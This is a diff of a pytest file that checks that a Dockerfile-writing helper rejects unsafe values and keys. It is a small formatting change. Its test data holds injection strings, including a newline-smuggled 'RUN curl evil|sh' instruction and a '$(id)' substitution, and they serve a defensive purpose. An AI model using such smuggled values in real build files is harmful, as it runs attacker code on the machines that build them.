@@ -62,7 +62,10 @@ def test_quote_value_table(value, expected):
     assert docker_word(expected) == (value, [])
 
 
-@pytest.mark.parametrize("bad", ["a\nRUN curl evil|sh", "a\rb", "nul\x00", "esc\x1b[31m", "line\u2028sep", "bidi\u202e", "zw\u200b", "del\x7f"])
+@pytest.mark.parametrize(
+    "bad",
+    ["a\nRUN curl evil|sh", "a\rb", "nul\x00", "esc\x1b[31m", "line\u2028sep", "bidi\u202e", "zw\u200b", "del\x7f"],
+)
 def test_quote_value_refuses_line_breaking_and_invisible_characters(bad):
     with pytest.raises(ReplayError, match="cannot be written into a Dockerfile"):
         quote_value(bad, "runtime.env.X")
@@ -88,7 +91,7 @@ def test_check_key_accepts_identifiers(key):
     assert check_key(key) == key
 
 
-@pytest.mark.parametrize("key", ["", "A B", "A=B", "$(id)", "-x", "a\nb", "A\"", "x" * 129])
+@pytest.mark.parametrize("key", ["", "A B", "A=B", "$(id)", "-x", "a\nb", 'A"', "x" * 129])
 def test_check_key_refuses_anything_else(key):
     with pytest.raises(ReplayError, match="not a valid Dockerfile key"):
         check_key(key)
